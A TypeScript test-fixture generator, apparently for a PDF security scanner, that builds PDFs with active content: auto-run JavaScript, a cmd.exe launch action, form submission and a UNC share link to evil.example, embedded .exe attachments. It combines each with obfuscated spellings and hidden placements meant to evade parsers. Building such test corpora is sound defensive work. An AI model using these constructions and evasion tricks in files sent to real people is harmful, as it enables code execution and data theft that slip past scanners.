import type { Filter, Objects } from './build.ts';
import { build, document, objectStream, stream } from './build.ts';

/** Something active: how the document leads to object 4, and that object. Tokens stand apart by one space. */
type Kind = { readonly catalogue?: string; readonly page?: string; readonly active: string };

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const annotation = (subtype: string, entries: string): string =>
  `<< /Type /Annot /Subtype /${subtype} /Rect [ 0 0 9 9 ] ${entries} >>`;
const clicked = (action: string): Kind => ({ page: '/Annots [ 4 0 R ]', active: annotation('Link', `/A ${action}`) });
const annotated = (subtype: string, entries = ''): Kind => ({
  page: '/Annots [ 4 0 R ]',
  active: annotation(subtype, entries),
});

export const kinds: Readonly<Record<string, Kind>> = {
  'a script on opening': { catalogue: '/OpenAction 4 0 R', active: script },
  'a script by name': {
    catalogue: '/Names 4 0 R',
    active: `<< /JavaScript << /Names [ (a) ${script} ] >> >>`,
  },
  'a script in a link': clicked(script),
  'a script in a stream': clicked('<< /S /JavaScript /JS 7 0 R >>'),
  'a script behind a harmless action': clicked(`<< /S /GoTo /D [ 3 0 R /Fit ] /Next [ ${script} ] >>`),
  'a script in a field': annotated('Widget', `/FT /Tx /AA << /K ${script} >>`),
  'a script on turning a page': { page: '/AA 4 0 R', active: `<< /O ${script} >>` },
  'a script as an address': clicked('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'a script as an address in digits': clicked('<< /S /URI /URI <6A6176610A7363726970743A31> >>'),
  'a file as an address': clicked('<< /S /URI /URI (file:///etc/passwd) >>'),
  'an address as the base of others': { catalogue: '/URI 4 0 R', active: '<< /Base (javascript:) >>' },
  'a rendition': clicked('<< /S /Rendition /OP 0 /R 9 0 R >>'),
  'a program': clicked('<< /S /Launch /F (cmd.exe) >>'),
  'a form that is sent': clicked('<< /S /SubmitForm /F (https://evil.example) >>'),
  'a form that is filled': clicked('<< /S /ImportData /F (data.fdf) >>'),
  'a form of another language': { catalogue: '/AcroForm 4 0 R', active: '<< /Fields [ ] /XFA [ (template) 7 0 R ] >>' },
  'another file': clicked('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [ 0 /Fit ] >>'),
  'an attached file to go to': clicked('<< /S /GoToE /T << /R /C /N (a) >> >>'),
  'an attachment': {
    catalogue: '/Names 4 0 R',
    active: '<< /EmbeddedFiles << /Names [ (a) << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >> ] >> >>',
  },
  'an attachment on a page': annotated('FileAttachment', '/FS << /Type /Filespec /F (a.exe) >>'),
  'an associated file': { catalogue: '/AF [ 4 0 R ]', active: '<< /Type /Filespec /F (a) /EF << /F 7 0 R >> >>' },
  'a portfolio': { catalogue: '/Collection 4 0 R', active: '<< /Type /Collection /View /T /EmbeddedFiles null >>' },
  'rich media': annotated('RichMedia', '/RichMediaContent << >>'),
  'a film': annotated('Movie', '/Movie << /F (a.mov) >>'),
  'a sound': annotated('Sound', '/Sound 7 0 R'),
  'a model in space': annotated('3D', '/3DD 7 0 R'),
  'a link on opening': { catalogue: '/OpenAction 4 0 R', active: '<< /S /URI /URI (https://evil.example) >>' },
  'printing on opening': { catalogue: '/OpenAction 4 0 R', active: '<< /S /Named /N /Print >>' },
  'printing by a link': clicked('<< /S /Named /N /Print >>'),
  'an action of the future': clicked('<< /S /Teleport >>'),
};

/** Ways to spell the same object. */
export const spellings: Readonly<Record<string, (active: string) => { active: string; more?: Objects }>> = {
  plainly: (active) => ({ active }),
  'with digits in its names': (active) => ({
    active: active.replaceAll(/\/([A-Za-z])/g, (_, first: string) => `/#${first.charCodeAt(0).toString(16)}`),
  }),
  'with comments between its words': (active) => ({ active: active.replaceAll(' ', ' % ( >> endobj\r') }),
  'with NULs between its words': (active) => ({ active: active.replaceAll(' ', '\0') }),
  'without spaces': (active) => ({ active: active.replaceAll(/ (?=[/[<(])/g, '') }),
  'behind a string': (active) => ({ active: active.replace('<< ', '<< /Note (\\) >> endobj \\( (x) % ) ') }),
  'with its names elsewhere': (active) => ({
    active: active.replaceAll(/\/(S|Subtype|N) \/([A-Za-z0-9]+)/g, (_, key: string, value: string) =>
      value === 'GoTo' || value === 'Link' ? `/${key} /${value}` : `/${key} 2${value.length} 0 R`,
    ),
    more: Object.fromEntries(
      [...active.matchAll(/\/(?:S|Subtype|N) \/([A-Za-z0-9]+)/g)].map(([, value = '']) => [
        Number(`2${value.length}`),
        `/${value}`,
      ]),
    ),
  }),
};

type Parts = { readonly whole: Objects; readonly active: Objects };

const clean = document();
const attached = { 7: stream('app.alert(1)') };
const packedBy =
  (...filters: Filter[]) =>
  ({ whole, active }: Parts) =>
    build([{ objects: { ...whole, 30: objectStream(active, filters) } }]);

/** Places in a file where the same object may be. */
export const places: Readonly<Record<string, (parts: Parts) => Buffer>> = {
  'in the open': ({ whole, active }) => build([{ objects: { ...whole, ...active } }]),
  'with other line ends': ({ whole, active }) => build([{ objects: { ...whole, ...active } }], '\r'),
  'in a packed stream': packedBy('FlateDecode'),
  'in a stream of objects': packedBy(),
  'in a stream packed twice': packedBy('ASCIIHexDecode', 'FlateDecode'),
  'in a stream packed in three ways': packedBy('ASCII85Decode', 'RunLengthDecode', 'FlateDecode'),
  'in a later version': ({ whole, active }) => build([{ objects: clean }, { objects: { ...whole, ...active } }]),
  'in a former version': ({ whole, active }) =>
    build([{ objects: { ...whole, ...active } }, { objects: { ...clean, ...dropped(active) } }]),
  'where nothing leads to it': ({ active }) => build([{ objects: { ...clean, ...active } }]),
  'behind what is no object': ({ whole, active }) => {
    const text = build([{ objects: { ...whole, ...active } }]).toString('latin1');
    return Buffer.from(text.replace(/\n4 0 obj/, '\nendobj >> stream ) \u0001 4 0 obj'), 'latin1');
  },
};

function dropped(active: Objects): Objects {
  return Object.fromEntries(Object.keys(active).map((number) => [number, 'null']));
}

/** One file of each kind, spelled and placed in each way. */
export function* hostilePdfs(): Generator<{ readonly title: string; readonly content: Buffer }> {
  for (const [kind, { active: plain, ...leads }] of Object.entries(kinds)) {
    for (const [spelling, spell] of Object.entries(spellings)) {
      const { active, more = {} } = spell(plain);
      for (const [place, put] of Object.entries(places)) {
        const whole = { ...document(leads), ...attached };
        yield { title: `${kind}, ${spelling}, ${place}`, content: put({ whole, active: { 4: active, ...more } }) };
      }
    }
  }
}
